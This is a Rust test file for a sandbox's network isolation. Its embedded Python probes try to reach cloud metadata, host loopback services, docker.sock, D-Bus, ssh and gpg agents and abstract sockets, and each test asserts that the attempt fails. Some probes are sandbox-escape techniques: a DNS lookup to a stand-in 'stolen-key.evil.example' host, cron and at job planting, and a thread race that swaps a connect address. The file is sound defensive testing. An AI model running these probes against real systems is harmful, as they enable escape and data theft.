//! In tier B, can the box reach a service of this machine or of the world past its supervisor?
//!
//! Numbers are those of the attack catalogue (I, N). Every attack has its twin. Each test runs where no user namespace can
//! be made, as an ordinary user and as root.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    reason = "a test may stop, and plays what is outside the box"
)]
mod support;
use bartizan_sandbox::{BoundSocket, Reach, Running};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use support::table::stopped;
use support::{Outcome, Place, drain, run_b, start_b};

/// Counts whoever comes to a service outside the box.
fn count_visitors(mut next: impl FnMut() -> bool + Send + 'static) -> Arc<AtomicUsize> {
    let visitors = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&visitors);
    std::thread::spawn(move || {
        while next() {
            seen.fetch_add(1, Ordering::SeqCst);
        }
    });
    visitors
}

/// Answers every connection of the box, as the supervisor does, with the address it was meant for, and drops every other.
/// Returns how many others there were.
fn serve(running: &mut Running) -> Arc<AtomicUsize> {
    let strangers = Arc::new(AtomicUsize::new(0));
    let capture = &mut running.capture;
    let named = [capture.http_proxy.take(), capture.socks.take()];
    let all = std::mem::take(&mut capture.tcp).into_iter().map(|listener| ("", listener));
    let names = std::mem::take(&mut capture.dns_tcp).into_iter().map(|listener| ("dns ", listener));
    let named = ["http ", "socks "].into_iter().zip(named.into_iter().flatten());
    for (word, listener) in all.chain(names).chain(named) {
        let (origins, strangers) = (running.capture.origins.clone(), Arc::clone(&strangers));
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                match origins.destination(&stream) {
                    Ok(destination) => {
                        stream.write_all(format!("{word}{destination}\n").as_bytes()).ok();
                    }
                    Err(_) => {
                        strangers.fetch_add(1, Ordering::SeqCst);
                    }
                }
            }
        });
    }
    strangers
}

fn run_served(place: &Place, script: &str) -> Outcome {
    let mut running = start_b(place, &place.python(script));
    serve(&mut running);
    drain(&mut running)
}

const CONNECT: &str = "import socket, errno, os, ctypes, struct, sys\n\
    def t(host, port, family=socket.AF_INET):\n  \
      s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(10)\n  \
      try: s.connect((host, port)); return s.makefile().readline().strip()\n  \
      except OSError as e: return f'refused {e.strerror}'\n";

in_tier_b! {
    fn n01_every_connection_lands_here_with_the_address_it_was_meant_for() {
        let place = Place::new();
        let outcome = run_served(&place, &format!(
            "{CONNECT}for a in [('1.1.1.1', 443), ('93.184.216.34', 80), ('169.254.169.254', 80), ('10.0.0.1', 5432), ('255.1.2.3', 65535), ('192.0.2.1', 3128)]: print(t(*a))\n\
             for a in [('2606:4700::1111', 443), ('fd00:ec2::254', 80), ('::ffff:1.2.3.4', 99)]: print(t(*a, socket.AF_INET6))\n\
             print(t('127.0.0.1', 3128), t('127.0.0.1', 1080), t('8.8.8.8', 53))\n\
             s = socket.socket(); s.setblocking(False); print(errno.errorcode[s.connect_ex(('192.0.2.9', 22))])\n\
             import select; select.select([], [s], [], 10); print(s.getsockopt(1, 4)); s.setblocking(True); print(s.makefile().readline().strip())"
        ));
        assert_eq!(
            outcome.stdout,
            "1.1.1.1:443\n93.184.216.34:80\n169.254.169.254:80\n10.0.0.1:5432\n255.1.2.3:65535\n192.0.2.1:3128\n\
             [2606:4700::1111]:443\n[fd00:ec2::254]:80\n1.2.3.4:99\n\
             http 127.0.0.1:3128 socks 127.0.0.1:1080 dns 8.8.8.8:53\nEINPROGRESS\n0\n192.0.2.9:22\n",
            "{outcome:#?}"
        );
        stopped("N01", "connect to any address, blocking and not, IPv4 and IPv6", "Landlock: no TCP; connected by the supervisor, to us", &outcome.stdout);
    }

    fn n04_another_address_at_our_listeners_port_is_caught_and_not_let_through() {
        let place = Place::new();
        // A service that stands at every address of this machine, at the very port of our listener's twin.
        let mut running = start_b(&place, &place.python(&format!(
            "{CONNECT}ports = sys.stdin.readline().split()\nfor p in ports:\n  for ip in ('192.0.2.66', '127.0.0.2', '127.0.0.1'): print(t(ip, int(p)))"
        )));
        let ours: Vec<u16> = running.capture.tcp.iter().map(|listener| listener.local_addr().unwrap().port()).collect();
        let elsewhere = TcpListener::bind((Ipv4Addr::new(127, 0, 0, 2), ours[0]));
        let visitors = elsewhere.map(|listener| count_visitors(move || listener.accept().is_ok()));
        let strangers = serve(&mut running);
        let port = ours[0];
        support::write_to(running.stdio.stdin.take().unwrap(), &format!("{port}\n"));
        let outcome = drain(&mut running);
        assert_eq!(outcome.stdout, format!("192.0.2.66:{port}\nrefused Connection refused\nrefused Connection refused\n"), "{outcome:#?}");
        assert_eq!(visitors.map_or(0, |visitors| visitors.load(Ordering::SeqCst)), 0);
        assert_eq!(strangers.load(Ordering::SeqCst), 0);
        stopped("N04", "another address at our listener's port", "connect on behalf, to our listener only", &outcome.stdout);
    }

    fn a_stranger_on_this_machine_is_not_served_as_the_box() {
        let place = Place::new();
        let mut running = start_b(&place, &place.python(&format!("{CONNECT}sys.stdin.readline(); print(t('192.0.2.1', 80))")));
        let addresses: Vec<_> = running.capture.tcp.iter().chain(&running.capture.http_proxy).chain(&running.capture.socks).map(|l| l.local_addr().unwrap()).collect();
        let strangers = serve(&mut running);
        for address in &addresses {
            let mut answer = String::new();
            let mut stream = TcpStream::connect(address).unwrap();
            stream.read_to_string(&mut answer).ok();
            assert_eq!(answer, "");
        }
        support::write_to(running.stdio.stdin.take().unwrap(), "go\n");
        assert_eq!(drain(&mut running).succeeded().stdout, "192.0.2.1:80\n");
        assert_eq!(strangers.load(Ordering::SeqCst), addresses.len());
    }

    fn i06_services_on_the_hosts_loopback_are_out_of_reach_and_the_boxs_own_are_not() {
        let place = Place::new();
        let listener = TcpListener::bind("0.0.0.0:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let outcome = run_served(&place, &format!(
            "{CONNECT}print(t('127.0.0.1', {port}), '|', t('0.0.0.0', {port}), '|', t('::1', {port}, socket.AF_INET6), '|', t('127.8.8.8', {port}), '|', t('::ffff:127.0.0.1', {port}, socket.AF_INET6))\n\
             print(t('172.17.0.1', {port}))\n\
             for family, host in [(socket.AF_INET, '127.0.0.1'), (socket.AF_INET, ''), (socket.AF_INET6, '::1'), (socket.AF_INET6, '::')]:\n  \
               l = socket.create_server((host, 0), family=family); p = l.getsockname()[1]\n  \
               c = socket.socket(family); c.connect(('::1' if family == socket.AF_INET6 else '127.0.0.1', p)); l.accept()[0].send(b'own'); print(c.recv(9)); l.close(); print(t('127.0.0.1', p))"
        ));
        let refused = ["refused Connection refused"; 5].join(" | ");
        let own = "b'own'\nrefused Connection refused\n".repeat(4);
        assert_eq!(outcome.stdout, format!("{refused}\n172.17.0.1:{port}\n{own}"), "{outcome:#?}");
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        stopped("I06", "127.0.0.1, [::1], 0.0.0.0, mapped addresses of a host's service", "connect on behalf, to its own servers only", &outcome.stdout);
    }

    fn nobody_outside_this_machine_can_call_a_server_of_the_boxs() {
        let place = Place::new();
        let outcome = run_b(&place, &place.python(
            "import socket\ndef no(f):\n  try: f(); print('DID')\n  except OSError as e: print(e.strerror)\n\
             l = socket.socket(); no(l.listen)\n\
             for a in [('192.0.2.5', 0), ('0.0.0.0', 80), ('127.0.0.1', 22)]: s = socket.socket(); no(lambda: s.bind(a))\n\
             s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); print(s.getsockname()[0])\n\
             s = socket.socket(socket.AF_INET6); s.bind(('::', 0)); s.listen(); print(s.getsockname()[0])",
        ));
        let denied = "Permission denied\n".repeat(4);
        assert_eq!(outcome.stdout, format!("{denied}127.0.0.1\n::ffff:127.0.0.1\n"), "{outcome:#?}");
        stopped("I07", "somebody outside calls a server of the box", "bind on behalf: loopback only", &outcome.stdout);
    }

    fn no_write_and_no_other_call_connects_past_the_supervisor() {
        let place = Place::new();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let outcome = run_b(&place, &place.python(&format!(
            "import socket, ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\na = ('127.0.0.1', {port})\n\
             def no(name, f):\n  try: print(name, 'DID', f())\n  except OSError as e: print(name, e.strerror)\n\
             s = socket.socket(); no('fast open', lambda: s.sendto(b'x', 0x20000000, a))\n\
             s = socket.socket(); no('fast open message', lambda: s.sendmsg([b'x'], [], 0x20000000, a))\n\
             s = socket.socket(); no('deferred', lambda: s.setsockopt(6, 30, 1))\n\
             s = socket.socket(); no('send', lambda: s.sendto(b'x', a))\n\
             no('mptcp', lambda: socket.socket(2, 1, 262))\n\
             no('sctp', lambda: socket.socket(2, 1, 132))\n\
             print('io_uring', libc.syscall(425, 1, 0), os.strerror(ctypes.get_errno()))"
        )));
        assert!(!outcome.stdout.contains("DID"), "{outcome:#?}");
        assert!(outcome.stdout.contains("fast open Operation not permitted\nfast open message Operation not permitted\ndeferred Operation not permitted\n"), "{outcome:#?}");
        assert!(outcome.stdout.contains("io_uring -1 Function not implemented"), "{outcome:#?}");
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        stopped("N01", "sendto, sendmsg, fast open and other calls that connect", "seccomp; Landlock: no TCP", &outcome.stdout);
    }

    fn an_address_exchanged_by_another_thread_is_never_dialled() {
        let place = Place::new();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let outcome = run_served(&place, &format!(
            "import ctypes, socket, struct, threading\nlibc = ctypes.CDLL(None, use_errno=True)\n\
             good = struct.pack('=H', 2) + struct.pack('!H', 80) + bytes([192, 0, 2, 1]) + bytes(8)\n\
             bad = struct.pack('=H', 2) + struct.pack('!H', {port}) + bytes([127, 0, 0, 1]) + bytes(8)\n\
             address = ctypes.create_string_buffer(good, 16)\nstop = []\n\
             def flip():\n  \
               while not stop: ctypes.memmove(address, bad, 16); ctypes.memmove(address, good, 16)\n\
             t = threading.Thread(target=flip); t.start()\nseen = set()\n\
             for _ in range(60):\n  \
               s = socket.socket(); s.settimeout(None)\n  \
               if libc.connect(s.fileno(), address, 16) == 0: seen.add(s.makefile().readline())\n\
             stop.append(1); t.join(); print(seen <= {{'192.0.2.1:80\\n'}})"
        ));
        assert_eq!(outcome.stdout, "True\n", "{outcome:#?}");
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        stopped("N04", "another thread exchanges the address during connect", "the supervisor connects with its own copy", &outcome.stdout);
    }

    fn n01_a_box_without_network_meets_nobody_and_its_own_servers_answer() {
        let place = Place::new();
        let mut spec = place.python(
            "import socket, threading\n\
             def t(host, port):\n  \
               s = socket.socket(); s.settimeout(5)\n  \
               try: s.connect((host, port)); return 'OUT'\n  \
               except OSError as e: return e.strerror\n\
             for a in [('1.1.1.1', 443), ('169.254.169.254', 80), ('127.0.0.1', 3128), ('127.0.0.1', 1080), ('127.0.0.53', 53), ('8.8.8.8', 53)]: print(t(*a))\n\
             own = socket.socket(); own.bind(('127.0.0.1', 0)); own.listen()\n\
             threading.Thread(target=lambda: own.accept()[0].send(b'own')).start()\n\
             print(socket.create_connection(own.getsockname(), 5).recv(9))",
        );
        spec.network = Reach::Loopback;
        let mut running = start_b(&place, &spec);
        assert!(running.capture.tcp.is_empty() && running.capture.dns_udp.is_empty() && running.capture.dns_tcp.is_empty());
        assert!(running.capture.http_proxy.is_none() && running.capture.socks.is_none());
        let outcome = drain(&mut running).succeeded();
        assert!(!outcome.stdout.contains("OUT") && outcome.stdout.ends_with("b'own'\n"), "{outcome:#?}");
        stopped("N01", "connect with `network = none`", "Landlock: no TCP; on behalf to its own servers only", &outcome.stdout);
    }

    fn n02_there_are_no_datagrams_and_no_raw_packets() {
        let place = Place::new();
        let outcome = run_b(&place, &place.python(
            "import socket\n\
             for f, t, p in [(2, 2, 0), (10, 2, 0), (2, 2, 17), (2, 3, 1), (2, 3, 255), (10, 3, 58), (16, 3, 0), (16, 3, 12), (17, 3, 3), (40, 1, 0), (38, 5, 0), (1, 2, 0), (1, 3, 0)]:\n  \
               try: socket.socket(f, t, p); print('MADE', f, t, p)\n  except OSError: pass\n\
             try: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print('MADE a datagram pair')\nexcept OSError: pass\n\
             a, b = socket.socketpair(); a.send(b'own'); print(b.recv(9))",
        ));
        assert_eq!(outcome.stdout, "b'own'\n", "{outcome:#?}");
        stopped("N02", "UDP, ICMP, raw, netlink, packet, vsock sockets", "seccomp: streams alone", &outcome.stdout);
    }

    fn n03_names_are_asked_of_us_whomever_the_host_would_ask() {
        let place = Place::new();
        let mut running = start_b(&place, &place.python("import socket\nprint(socket.gethostbyname('stolen-key.evil.example'))"));
        let origins = running.capture.origins.clone();
        let queries = Arc::new(AtomicUsize::new(0));
        for listener in std::mem::take(&mut running.capture.dns_tcp) {
            let (origins, queries) = (origins.clone(), Arc::clone(&queries));
            std::thread::spawn(move || {
                for mut stream in listener.incoming().flatten() {
                    assert_eq!(origins.destination(&stream).unwrap().port(), 53);
                    let origins = Arc::clone(&queries);
                    std::thread::spawn(move || while answer_name(&mut stream) { origins.fetch_add(1, Ordering::SeqCst); });
                }
            });
        }
        assert_eq!(drain(&mut running).succeeded().stdout, "10.9.8.7\n");
        assert!(queries.load(Ordering::SeqCst) >= 1);
    }

    fn i01_a_socket_that_is_named_can_be_used_and_no_other_though_its_path_is_seen() {
        let place = Place::new();
        let serve = |path: PathBuf| {
            let listener = UnixListener::bind(&path).unwrap();
            std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
            (path, count_visitors(move || listener.accept().is_ok_and(|(mut stream, _)| stream.write_all(b"welcome\n").is_ok())))
        };
        std::fs::set_permissions(place.directory.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let ((wanted, welcome), (other, unwelcome)) = (serve(place.path("wanted.sock")), serve(place.path("other.sock")));
        let mut spec = place.python(&format!(
            "import os, socket\n\
             def u(p):\n  s = socket.socket(socket.AF_UNIX)\n  try: s.connect(p); return s.recv(99)\n  except OSError as e: return e.strerror\n\
             print(u('/run/bartizan/api.sock'), u('{0}'), u('{1}'))\n\
             os.symlink('{0}', 'link'); print(u('link'))\n\
             try: os.link('{0}', 'hard'); print('LINKED')\nexcept OSError as e: print(e.strerror)\n\
             for p in ('/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'): assert 'b' != u(p)[0]\n\
             l = socket.socket(socket.AF_UNIX); l.bind('own.sock'); l.listen(); c = socket.socket(socket.AF_UNIX); c.connect(os.path.abspath('own.sock')); l.accept()[0].send(b'own'); print(c.recv(9))",
            other.display(), wanted.display()
        ));
        spec.sockets.push(BoundSocket { host: wanted, inside: "/run/bartizan/api.sock".into() });
        let outcome = run_b(&place, &spec).succeeded();
        let lines: Vec<_> = outcome.stdout.lines().collect();
        assert_eq!(lines[0], "b'welcome\\n' Operation not permitted Operation not permitted", "{outcome:#?}");
        assert_eq!(lines[1], "Operation not permitted");
        assert!(lines[2] != "LINKED" && lines[3] == "b'own'", "{outcome:#?}");
        assert_eq!((welcome.load(Ordering::SeqCst), unwelcome.load(Ordering::SeqCst)), (1, 0));
        stopped("I01", "docker.sock, D-Bus, X11; any socket that is seen", "connect on behalf, to named sockets only", &lines[0]);
    }

    fn i02_services_of_the_persons_session_are_out_of_reach() {
        let place = Place::new();
        std::fs::set_permissions(place.directory.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let runtime = place.path("runtime");
        let services = ["bus", "wayland-0", "pipewire-0", "vscode-ipc-1.sock", "gvfsd/socket-1", "gnupg/S.gpg-agent", "ssh/agent.1", "X11/X0"];
        let visitors = services.map(|name| {
            let path = runtime.join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            let listener = UnixListener::bind(&path).unwrap();
            std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
            count_visitors(move || listener.accept().is_ok())
        });
        let outcome = run_b(&place, &place.python(&format!(
            "import os, socket, subprocess\n\
             def u(p):\n  s = socket.socket(socket.AF_UNIX)\n  try: s.connect(p); print('REACHED', p)\n  except OSError as e: return e.strerror\n\
             print(*{{u('{0}/' + name) for name in {services:?}}})\n\
             os.chdir(os.environ['TMPDIR']); os.symlink('{0}/bus', 'bus'); u('bus')\n\
             for p in ('/run/dbus/system_bus_socket', f'/run/user/{{os.getuid()}}/bus', '/run/systemd/private', '/tmp/.X11-unix/X0', '/tmp/.ICE-unix/1'): u(p)\n\
             print([n for n in os.environ if n.startswith(('DBUS_', 'XDG_RUNTIME', 'SSH_A', 'GPG', 'DISPLAY', 'WAYLAND', 'VSCODE'))])\n\
             for words in (['systemd-run', 'true'], ['systemd-run', '--user', 'true'], ['gio', 'cat', 'localtest:///x'], ['dbus-send', '--session', '--dest=org.x', '/', 'a.b'], ['crontab', '-'], ['at', 'now'], ['batch']):\n  \
               try: done = subprocess.run(words, input=b'* * * * * touch /tmp/pwned\\n', capture_output=True).returncode\n  except OSError: continue\n  \
               done == 0 and print('RAN', words)\n\
             for p in ('/var/spool/cron/crontabs/x', '/var/spool/cron/x', '/var/spool/at/x', '/etc/cron.d/x', os.path.expanduser('~person/.config/systemd/user/x.service')):\n  \
               try: open(p, 'w'); print('WROTE', p)\n  except OSError: pass\n\
             o = socket.socket(socket.AF_UNIX); o.bind('own.sock'); o.listen(); s = socket.socket(socket.AF_UNIX); s.connect('own.sock'); o.accept()[0].send(b'own'); print(s.recv(9))",
            runtime.display()
        ))).succeeded();
        assert_eq!(outcome.stdout, "Operation not permitted\n[]\nb'own'\n", "{outcome:#?}");
        assert_eq!(visitors.map(|seen| seen.load(Ordering::SeqCst)), [0; 8]);
        stopped("I02", "D-Bus, Wayland, X11, PipeWire, gvfs, VS Code, gpg and ssh agents; systemd-run, crontab, at", "connect on behalf, to named sockets only; Landlock; an environment of its own", &outcome.stdout);
    }

    fn i03_abstract_sockets_of_the_host_are_out_of_reach_and_none_is_squatted_on() {
        let place = Place::new();
        let name = format!("bartizan-abstract-{}", std::process::id());
        let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
        let listener = UnixListener::bind_addr(&address).unwrap();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let outcome = run_b(&place, &place.python(&format!(
            "import socket\ndef no(f):\n  try: f(); print('DID')\n  except OSError as e: print(e.strerror)\n\
             s = socket.socket(socket.AF_UNIX); no(lambda: s.connect('\\0{name}'))\n\
             s = socket.socket(socket.AF_UNIX); no(lambda: s.bind('\\0/tmp/.X11-unix/X0'))\n\
             s = socket.socket(socket.AF_UNIX); no(lambda: s.bind(''))\n\
             s = socket.socket(socket.AF_UNIX); no(lambda: s.bind('{}/planted.sock'))",
            place.directory.path().display()
        )));
        assert_eq!(outcome.stdout, "Connection refused\nPermission denied\nPermission denied\nOperation not permitted\n", "{outcome:#?}");
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        assert!(!place.path("planted.sock").exists());
        stopped("I03", "connect and bind abstract sockets", "Landlock scope; bind on behalf", &outcome.stdout);
    }

    fn i04_datagram_sockets_of_the_host_are_out_of_reach() {
        let place = Place::new();
        let log = UnixDatagram::bind(place.path("log")).unwrap();
        let outcome = run_b(&place, &place.python(&format!(
            "import socket\n\
             for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0], lambda: socket.socketpair()[0], lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)):\n  \
               for p in ('/dev/log', '/run/systemd/journal/socket', '{}'):\n    \
                 try: make().sendto(b'x', p); print('SENT')\n    except OSError as e: pass\nprint('done')", place.path("log").display()
        )));
        assert_eq!(outcome.stdout, "done\n", "{outcome:#?}");
        log.set_nonblocking(true).unwrap();
        assert!(log.recv(&mut [0; 8]).is_err());
        stopped("I04", "sendto /dev/log and the journal", "seccomp: no datagram, no sendto with an address", &outcome.stdout);
    }
}

/// Answers one query over TCP with 10.9.8.7.
fn answer_name(stream: &mut TcpStream) -> bool {
    let mut length = [0; 2];
    if stream.read_exact(&mut length).is_err() {
        return false;
    }
    let mut query = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut query).unwrap();
    let mut at = 12;
    while query[at] != 0 {
        at += usize::from(query[at]) + 1;
    }
    query.truncate(at + 5);
    let wants_v4 = query[at + 2] == 1;
    query[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, u8::from(wants_v4), 0, 0, 0, 0]);
    if wants_v4 {
        query.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 9, 0, 4, 10, 9, 8, 7]);
    }
    let length = u16::try_from(query.len()).unwrap().to_be_bytes();
    stream.write_all(&[&length[..], &query].concat()).is_ok()
}
